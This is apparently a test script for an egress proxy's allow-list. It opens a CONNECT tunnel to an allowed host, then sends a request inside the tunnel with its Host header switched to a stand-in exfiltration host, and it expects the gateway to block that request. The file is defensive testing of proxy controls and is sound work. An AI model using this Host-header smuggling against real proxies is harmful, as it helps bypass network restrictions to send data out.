# what: the gateway as an explicit proxy: CONNECT allowed.test:80, then BREW /host for Host: exfil.attacker.example through the tunnel
# expect-denied: exfil.attacker.example 80 http host_changed
# expect-allowed: allowed.test http
# inet: allow allowed.test
# expect-stdout: (?s)STATUS: HTTP/1.1 200 Connection established\nSTATUS: HTTP/1.1 403 Forbidden
import socket


def exchange(addr, port, data, timeout=10, pause=0.0):
    """Sends data (bytes, or a list of pieces sent with pause between),
    returns everything read until the peer closes or times out."""
    s = socket.create_connection((addr, port), timeout=timeout)
    out = b""
    try:
        for piece in (data if isinstance(data, list) else [data]):
            s.sendall(piece)
            if pause:
                import time
                time.sleep(pause)
        while True:
            d = s.recv(65536)
            if not d:
                break
            out += d
    except OSError as e:
        out += ("<%s>" % type(e).__name__).encode()
    finally:
        s.close()
    return out


def report(out):
    """One line per response status and per lab page seen, then the tail."""
    import re
    text = out.decode("latin-1")
    for m in re.finditer(r"HTTP/1\.[01] [0-9]{3}[^\r\n]*|hello from \S+", text):
        print("STATUS:" if m.group(0).startswith("HTTP/") else "PAGE:", m.group(0))
        if m.group(0).startswith("hello from") and m.group(0) != "hello from allowed.test":
            print("LEAK:", m.group(0))
    print("TAIL:", text[-300:].replace("\r\n", " | ").replace("\n", " | "))
gw = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
report(exchange(gw, 3128, [b"CONNECT allowed.test:80 HTTP/1.1\r\nHost: allowed.test:80\r\n\r\n",
                           b"BREW /host HTTP/1.1\r\nHost: exfil.attacker.example\r\nConnection: close\r\n\r\n"], pause=1.0))
